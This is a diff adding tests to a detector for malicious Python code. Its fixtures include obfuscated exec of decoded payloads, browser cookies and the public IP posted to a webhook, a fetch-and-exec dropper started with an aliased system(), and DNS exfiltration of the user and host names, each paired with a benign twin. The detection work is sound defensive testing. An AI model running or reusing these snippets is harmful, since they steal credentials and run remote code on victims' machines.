@@ -88,6 +88,10 @@ test('decoded_code_exec: exec of base64 / zlib / marshal / XOR-decoded data, als
   assert.ok(ids("key = 42\nsrc = ''.join(chr(ord(c) ^ key) for c in blob)\nexec(src)\n").includes('decoded_code_exec'));
 });
 
+test('decoded_code_exec through a lambda decoder (the lambda obfuscators)', () => {
+  assert.ok(ids("_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'=Aa'))\n").includes('decoded_code_exec'));
+});
+
 test('honest twin: decoding data that is never executed', () => {
   assert.equal(ids("import base64, json\ncfg = json.loads(base64.b64decode(os.environ['CFG']))\nprint(cfg)\n"), []);
 });
@@ -132,6 +136,20 @@ test('recon_exfil_flow: user, host and the whole environment reach a send (throu
   assert.ok(analysePython("import platform, requests\ndef info():\n    return {'n': platform.node()}\nrequests.post('http://h.example', json=info())\n")!.reconSent);
 });
 
+test('recon_exfil_flow: the public IP from an IP-echo service and browser cookies posted to a webhook in an f-string', () => {
+  assert.ok(analysePython("import requests\nip = requests.get('https://api.ipify.org').text\nrequests.post(HOOK, data={'content': f'IP: {ip}'})\n")!.reconSent);
+  assert.ok(analysePython("import browser_cookie3, requests\ncj = browser_cookie3.chrome(domain_name='example.com')\nrequests.post(HOOK, json={'c': [c.value for c in cj]})\n")!.reconSent);
+  // A cookie library used locally (a session for its own requests) sends no cookie store out by itself.
+  assert.not.ok(analysePython("import browser_cookie3\ncj = browser_cookie3.firefox()\nprint(len(cj))\n")!.reconSent);
+});
+
+test('download_execute: a literal script that fetches and runs code, written to a temp file and started with an aliased system()', () => {
+  const src = "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\nfrom os import system as _s\nt = _f(delete=False)\nt.write(b\"from urllib.request import urlopen as u;exec(u('https://h.example/raw').read())\")\nt.close()\n_s(f'start {_e} {t.name}')\n";
+  assert.ok(ids(src).includes('download_execute'));
+  // Honest twin: a temp file with a config literal, opened in an editor.
+  assert.equal(ids("from tempfile import NamedTemporaryFile\nimport os\nt = NamedTemporaryFile(delete=False, suffix='.ini')\nt.write(b'[main]\\nurl = https://example.org\\n')\nt.close()\nos.system(f'editor {t.name}')\n"), []);
+});
+
 test('honest twin: the host name used locally, a token read from one variable and sent to an API', () => {
   assert.not.ok(analysePython("import getpass, platform, requests\nlabel = '%s@%s' % (getpass.getuser(), platform.node())\nprint(label)\nrequests.get('https://api.example.org')\n")!.reconSent);
   assert.not.ok(analysePython("import os, requests\nrequests.post('https://api.example.org', headers={'Authorization': os.environ.get('API_TOKEN')})\n")!.reconSent);
@@ -153,7 +171,10 @@ test('setup_install_hook_exec: an install override that starts a process; a buil
 test('recon_exfil_flow through DNS: a name built from the user and host is looked up; resolving the own host name is not', () => {
   assert.ok(analysePython("import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.x.example')\n")!.reconSent);
   assert.ok(analysePython("import dns.resolver, os\nu = os.getlogin()\ndns.resolver.resolve(u + '.t.example', 'A')\n")!.reconSent);
+  // Variant: the name is built in steps (base32 of the user and host, then joined to a domain).
+  assert.ok(analysePython("import socket, os, base64\nu = base64.b32encode(os.getlogin().encode()).decode()\nh = socket.gethostname()\nd = u + '.' + h + '.t.example.net'\nsocket.gethostbyname(d)\n")!.reconSent);
   assert.not.ok(analysePython("import socket\naddrs = socket.getaddrinfo(socket.gethostname(), 0)\n")!.reconSent);
+  assert.not.ok(analysePython("import socket\nhost = 'db.internal.example'\nsocket.gethostbyname(host)\n")!.reconSent);
 });
 
 // ---- interpreters started with inline code at module level ---------------------------------------------
